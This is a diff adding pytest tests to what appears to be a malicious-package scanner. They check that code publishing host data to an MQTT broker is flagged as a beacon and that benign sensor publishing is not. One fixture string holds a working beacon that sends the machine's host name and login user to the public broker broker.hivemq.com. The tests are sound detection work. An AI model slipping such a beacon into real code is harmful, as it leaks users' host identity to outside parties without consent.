@@ -868,3 +868,28 @@ def test_wrappers_that_time_or_log_locally_stay_clean() -> None:
         return requests.get("https://api.mainnet-beta.solana.com/health").text
     """
     assert "CPL-THR-025" not in danger(source)
+
+
+# -- blind18: an MQTT broker as the egress (b18-re-mqtt-publish) -------------------------------
+
+
+def test_host_data_published_to_an_mqtt_broker_is_a_beacon(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    found_in_a_package(
+        tmp_path,
+        monkeypatch,
+        "import json, os, platform\nimport paho.mqtt.client as mqtt\n"
+        "c = mqtt.Client()\nc.connect('broker.hivemq.com', 1883, 30)\n"
+        "c.publish('t/' + platform.node(), json.dumps({'u': os.getlogin()}))\n",
+        "CPL-THR-017",
+    )
+
+
+def test_sensor_readings_published_to_a_broker_stay_clean() -> None:
+    assert not danger(
+        "import json, time\nimport paho.mqtt.client as mqtt\n"
+        "c = mqtt.Client()\nc.connect('broker.example.org', 1883)\n"
+        "def report(reading):\n"
+        "    c.publish('sensors/temp', json.dumps({'t': time.time(), 'v': reading}))\n"
+    )
